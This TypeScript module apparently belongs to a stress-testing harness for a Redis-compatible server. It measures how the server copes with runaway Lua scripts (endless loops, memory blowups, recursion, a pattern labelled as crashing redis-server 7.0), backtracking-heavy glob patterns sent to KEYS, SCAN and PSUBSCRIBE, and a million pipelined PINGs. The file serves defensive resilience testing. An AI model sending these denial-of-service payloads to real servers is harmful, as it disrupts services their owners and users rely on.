/** Runaway scripts and malicious patterns, and how they affect a client that only wants a reply. */
import { once } from 'node:events';
import { setTimeout as wait } from 'node:timers/promises';
import { attack, count, type Finding } from './attack.ts';
import type { Target } from './target.ts';

/** A request as RESP, which can contain any byte. */
function request(...words: string[]): string {
  return `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`;
}

const RUNAWAYS: Readonly<Record<string, string>> = {
  'an endless loop': 'while true do end',
  'an endless loop in pcall': 'while true do pcall(function() while true do end end) end',
  'a loop that calls': "while true do redis.call('GET', 'k') end",
  'a table that grows': 'local t = {} while true do t[#t + 1] = {} end',
  'a string that doubles': "local s = 'x' while true do s = s .. s end",
  'a string built piece by piece': "local s = '' while true do s = s .. 'xxxxxxxxxxxxxxxx' end",
  'string.rep of 500 MB, again and again': "while true do local s = string.rep('x', 500000000) end",
  'a cubic pattern': "return string.find(string.rep('a', 3000), '.-.-.-b')",
  'a pattern that kills redis-server 7.0':
    "return string.find(string.rep('a', 3e5), string.rep('a?', 3e5) .. 'a')",
  'gsub with itself': "local s = string.rep('a', 1e6) while true do s = s:gsub('a', 'aa') end",
  'sort with a liar': 'local t = {} for i = 1, 1e6 do t[i] = i end table.sort(t, function() return true end)',
  recursion: 'local function f() return 1 + f() end return f()',
  'deep nesting': 'local t = {} for i = 1, 1e6 do t = {t} end return cjson.encode(t)',
  'unpack of everything': 'return unpack({}, 1, 2147483647)',
};

/** Each script runs until it ends or is killed after two seconds. */
export async function runaways(): Promise<Finding[]> {
  const findings: Finding[] = [];
  for (const [what, script] of Object.entries(RUNAWAYS)) {
    findings.push(
      ...(await attack(`a script: ${what}`, ['--busy-reply-threshold', '100'], (target) =>
        runAway(target, script),
      )),
    );
  }
  return findings;
}

async function runAway(target: Target, script: string): Promise<string> {
  await target.ask('SET k v');
  const victim = await target.dial();
  const began = performance.now();
  const ended = once(victim, 'data').then(
    ([chunk]) => (chunk as Buffer).toString('latin1').split('\r\n')[0] ?? '',
  );
  victim.write(request('EVAL', script, '0'));
  const early = await Promise.race([ended, wait(2000).then(() => undefined)]);
  if (early !== undefined) {
    const took = performance.now() - began;
    return `ended by itself after ${Math.round(took)} ms: ${early.slice(0, 60)}`;
  }
  const asked = performance.now();
  const answer = (await target.ask('SCRIPT KILL')).trim();
  await ended;
  return `SCRIPT KILL (${answer.slice(0, 20)}) ended it within ${Math.round(performance.now() - asked)} ms`;
}

const STARS = '*a'.repeat(2000);
const PATTERNS: readonly string[] = [
  `${STARS}b`,
  `${'*?'.repeat(2000)}b`,
  `${'[a-z]*'.repeat(1000)}!`,
  `${'\\*'.repeat(5000)}`,
  '['.repeat(10_000),
  `[${'a-'.repeat(5000)}]`,
  `*${'a*'.repeat(999)}b`,
];

/** Patterns that are expensive for backtracking matchers. */
export function globs(): Promise<Finding[]> {
  return attack(
    'hostile globs: KEYS, SCAN, PSUBSCRIBE, CONFIG GET, PUBSUB, COMMAND LIST',
    [],
    async (target) => {
      const client = await target.dial();
      let received = 0;
      client.on('data', () => received++);
      for (let i = 0; i < 200; i++) client.write(request('SET', `${'a'.repeat(3000)}${i}`, 'v'));
      let longest = 0;
      let asked = 0;
      for (const pattern of PATTERNS) {
        for (const words of [
          ['KEYS', pattern],
          ['SCAN', '0', 'MATCH', pattern, 'COUNT', '1000'],
          ['CONFIG', 'GET', pattern],
          ['PUBSUB', 'CHANNELS', pattern],
          ['COMMAND', 'LIST', 'FILTERBY', 'PATTERN', pattern],
        ]) {
          const began = performance.now();
          client.write(request(...words));
          await once(client, 'data');
          longest = Math.max(longest, performance.now() - began);
          asked++;
        }
      }
      const subscriber = await target.dial();
      for (const pattern of PATTERNS) subscriber.write(request('PSUBSCRIBE', pattern));
      const began = performance.now();
      client.write(request('PUBLISH', 'a'.repeat(3000), 'm'));
      await once(client, 'data');
      longest = Math.max(longest, performance.now() - began);
      client.destroy();
      subscriber.destroy();
      return `${asked + 1} questions with ${PATTERNS.length} patterns over 200 keys of 3,000 bytes: the longest took ${longest.toFixed(1)} ms`;
    },
  );
}

/** A client that sends a million requests at once. */
export function pipelined(requests: number): Promise<Finding[]> {
  return attack(`${count(requests)} PINGs in one go from one client`, [], async (target) => {
    const client = await target.dial();
    let bytes = 0;
    const began = performance.now();
    const answered = new Promise<void>((resolve) => {
      client.on('data', (chunk) => {
        bytes += chunk.length;
        if (bytes >= requests * 7) resolve();
      });
    });
    client.write('PING\r\n'.repeat(requests));
    await answered;
    client.destroy();
    return `answered within ${Math.round(performance.now() - began)} ms`;
  });
}
